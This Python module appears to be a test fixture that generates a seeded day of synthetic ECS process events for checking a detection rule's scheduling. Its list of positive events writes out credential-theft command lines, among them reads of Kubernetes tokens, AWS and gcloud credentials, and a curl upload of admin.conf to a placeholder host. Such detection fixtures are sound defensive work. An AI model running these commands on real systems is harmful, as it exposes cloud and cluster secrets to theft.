"""A recorded day of ECS process events for scheduler tests (deterministic, seeded).

Each event carries ``labels.seq`` (unique) and ``labels.truth`` (``positive``
when the seed rule must match it, else ``negative``) so tests can compare
what alerted with what should have, without hard-coding alert ids.
Ingestion lags behind ``@timestamp`` by up to two minutes, and some events
have no ``event.ingested`` at all (the rule's ``timestamp_override`` then
falls back to ``@timestamp``).
"""

from __future__ import annotations

import json
import random
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

DAY = datetime(2026, 3, 1, tzinfo=UTC)

POSITIVES = [
    ("cat", "/usr/bin/cat", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]),
    ("cat", "/usr/bin/cat", ["cat", "/root/.aws/credentials"]),
    ("grep", "/usr/bin/grep", ["grep", "-r", "token", "/home/dev/.kube/config"]),
    ("curl", "/usr/bin/curl", ["curl", "-T", "/etc/kubernetes/admin.conf", "http://x"]),
    ("base64", "/usr/bin/base64", ["base64", "/home/ci/.docker/config.json"]),
    ("python3", "/usr/bin/python3", ["python3", "-c", "x", "/root/.config/gcloud/credentials.db"]),
]
NEGATIVES = [
    ("ls", "/usr/bin/ls", ["ls", "-la", "/tmp"]),
    ("cat", "/usr/bin/cat", ["cat", "/etc/hostname"]),
    ("bash", "/usr/bin/bash", ["bash", "-c", "cat /etc/shadow"]),
    ("kubectl", "/usr/local/bin/kubectl", ["kubectl", "get", "pods"]),
    ("CAT", "/usr/bin/CAT", ["CAT", "/ETC/SHADOW"]),
]
HOSTS = ["node-1", "node-2", "jump-1"]
USERS = ["root", "ci", "dev"]
PARENTS = [("bash", "/usr/bin/bash"), ("runner", "/opt/ci/bin/runner"), ("kubelet", "/usr/bin/kubelet")]


def iso(t: datetime) -> str:
    """Millisecond ISO time with Z."""
    return t.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


def make_event(seq: int, ts: datetime, *, positive: bool, rng: random.Random,
               ingested: datetime | None, spec: tuple[str, str, list[str]] | None = None,
               host: str | None = None, user: str | None = None,
               parent: tuple[str, str] | None = None) -> dict[str, Any]:
    """One exec event (Elastic Defend shape)."""
    name, exe, args = spec or rng.choice(POSITIVES if positive else NEGATIVES)
    pname, pexe = parent or rng.choice(PARENTS)
    event: dict[str, Any] = {
        "@timestamp": iso(ts),
        "event": {"category": ["process"], "type": ["start"], "action": "exec", "kind": "event"},
        "host": {"name": host or rng.choice(HOSTS), "os": {"type": "linux"}},
        "user": {"name": user or rng.choice(USERS)},
        "process": {"name": name, "executable": exe, "args": list(args), "pid": 1000 + seq,
                    "parent": {"name": pname, "executable": pexe}},
        "labels": {"seq": seq, "truth": "positive" if positive else "negative"},
    }
    if ingested is not None:
        event["event"]["ingested"] = iso(ingested)
    return event


def generate_day(*, seed: int = 7, events: int = 1500, positive_ratio: float = 0.15,
                 start: datetime = DAY, hours: float = 24.0,
                 no_ingested_ratio: float = 0.1) -> list[dict[str, Any]]:
    """Events spread over ``hours`` from ``start`` (by ingest time), in random file order."""
    rng = random.Random(seed)
    out: list[dict[str, Any]] = []
    span = int(hours * 3600 * 1000)
    for seq in range(events):
        at = start + timedelta(milliseconds=rng.randrange(1000, span - 1000))
        positive = rng.random() < positive_ratio
        if rng.random() < no_ingested_ratio:
            out.append(make_event(seq, at, positive=positive, rng=rng, ingested=None))
        else:
            lag = timedelta(milliseconds=rng.randrange(0, 120_000))
            out.append(make_event(seq, at - lag, positive=positive, rng=rng, ingested=at))
    rng.shuffle(out)
    return out


def write_ndjson(path: Path, events: list[dict[str, Any]]) -> Path:
    """Write events one per line."""
    path.write_text("".join(json.dumps(e) + "\n" for e in events), encoding="utf-8")
    return path
